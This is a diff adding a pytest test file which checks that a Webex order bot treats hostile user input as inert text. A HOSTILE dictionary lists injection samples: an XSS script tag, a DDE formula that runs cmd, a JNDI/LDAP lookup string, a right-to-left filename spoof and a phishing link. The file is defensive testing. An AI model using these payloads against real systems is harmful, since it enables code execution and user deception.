@@ -1,0 +1,130 @@
+"""Hostile text: whatever people call themselves, type or load is words, and never becomes anything else."""
+
+import logging
+from typing import Any
+
+import pytest
+
+from tests.scenarios.actors import Actor, Stage
+from tests.scenarios.stories import CONTOSO, begun, invited
+
+HOSTILE = {
+    "mention of all": "<@all> hello",
+    "mention by address": "<@personEmail:ann@northwind.example.com|Boss>",
+    "link": "[your bank](https://evil.example.net)",
+    "markdown": "**bold** `code` # heading > quote _x_ ~y~",
+    "right to left": "invoice\u202efdp.exe \u2066x\u2069",
+    "formula": '=cmd|"/c calc"!A1',
+    "html": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
+    "nul": "a\x00b\x1b[31m\x07",
+    "surrogate": "half \ud800 a pair",
+    "percent": "%s %(name)s {order} {0} ${jndi:ldap://evil}",
+    "huge": "x" * 1_000_000,
+    "marks": "e" + "\u0301" * 3000,
+}
+named = pytest.mark.parametrize("words", list(HOSTILE.values()), ids=list(HOSTILE))
+
+
+def texts_of(part: Any) -> list[str]:
+    """Return everything in a card that clients render."""
+    if isinstance(part, dict):
+        own = [part["text"]] if part.get("type") == "TextBlock" else []
+        return own + [text for value in part.values() for text in texts_of(value)]
+    return [text for value in part for text in texts_of(value)] if isinstance(part, list) else []
+
+
+def all_is_inert(stage: Stage) -> None:
+    """Look through all that the bot ever said, in every room."""
+    rooms = {each.id for each in stage.world.rooms._rooms.values()}
+    said = [each for room in rooms for each in stage.world.transcript(room, deleted=True)]
+    ours = [each for each in said if each.person_id == stage.me.id]
+    assert ours
+    for each in ours:
+        assert (each.markdown, each.html, each.mentioned_people, each.mentioned_groups) == (None, None, (), ())
+        assert len(each.text.encode()) <= 7439
+        for text in [each.text, *texts_of(each.card or {})]:
+            assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\x00\x07\x1b")
+            text.encode()
+        for text in texts_of(each.card or {}):
+            assert "](" not in text
+            assert "<@" not in text
+
+
+@named
+def test_typed_as_an_answer(stage: Stage, ann: Actor, words: str) -> None:
+    begun(stage, ann)
+    ann.presses("Next", forged=True, company=words, country="US", email="admin@northwind.example.com")
+    ann.says("back")
+    ann.presses("Next", forged=True, company="Northwind", country=words, email=words)
+    all_is_inert(stage)
+    assert not dead(stage)
+
+
+@named
+def test_typed_into_the_chat(stage: Stage, ann: Actor, words: str) -> None:
+    begun(stage, ann)
+    for typed in (words, f"order {words}", f"language {words}", f"claim {words}"):
+        stage.world.faults.clear()
+        heard = len(ann.answers)
+        say(stage, ann, typed)
+        assert len(ann.answers) > heard, "there is always an answer"
+    all_is_inert(stage)
+    assert not dead(stage)
+
+
+def say(stage: Stage, actor: Actor, words: str) -> None:
+    """Say something as far as Webex lets one: at most 7,439 bytes."""
+    storable = words.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
+    actor.says(storable.encode()[:7000].decode("utf-8", "ignore"))
+
+
+@named
+def test_as_a_name(stage: Stage, rita: Actor, words: str) -> None:
+    storable = words.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
+    evil = stage.person("evil@northwind.example.com", storable[:5000])
+    stage.import_orders(CONTOSO.replace("ann@northwind.example.com", evil.email))
+    stage.go_to(stage.clock.now().replace(hour=9))
+    evil.presses("Set Up Now")
+    evil.says("rep")
+    evil.says("status")
+    all_is_inert(stage)
+    assert not dead(stage)
+
+
+@named
+def test_as_a_note_of_a_rep(stage: Stage, ann: Actor, rita: Actor, words: str) -> None:
+    invited(stage, ann)
+    stage.wait(days=1)
+    say(stage, rita, f"/note 90417263 {words}")
+    rita.says("/order 90417263")
+    all_is_inert(stage)
+    assert not dead(stage)
+
+
+@named
+def test_in_a_file_of_orders(stage: Stage, ann: Actor, rita: Actor, words: str) -> None:
+    cell = words.encode("utf-8", "replace").decode()[:20_000].replace('"', '""')
+    row = CONTOSO.replace("Contoso Dental Group", f'"{cell}"').replace("Northwind Collab", f'"{cell}"')
+    file, _plan = stage.import_orders(row)
+    if file.problems:
+        assert not file.orders, "refused by name rather than cut"
+        return
+    stage.go_to(stage.clock.now().replace(hour=9))
+    stage.wait(days=1)
+    all_is_inert(stage)
+    assert not dead(stage)
+
+
+def dead(stage: Stage) -> list[str]:
+    with stage.bot.store.reading() as uow:
+        return [each.cause for each in uow.inbox.dead()] + [each.cause for each in uow.outbox.dead()]
+
+
+def test_what_people_write_is_in_no_log(stage: Stage, ann: Actor, caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.DEBUG, "bot")
+    begun(stage, ann)
+    ann.presses("Next", company="Secretive Holding", country="US", email="very.private@northwind.example.com")
+    ann.says("my very private words")
+    logged = "".join(f"{each.getMessage()}{each.__dict__}" for each in caplog.records if each.name.startswith("bot"))
+    for words in ("Secretive", "very.private", "my very private words"):
+        assert words not in logged
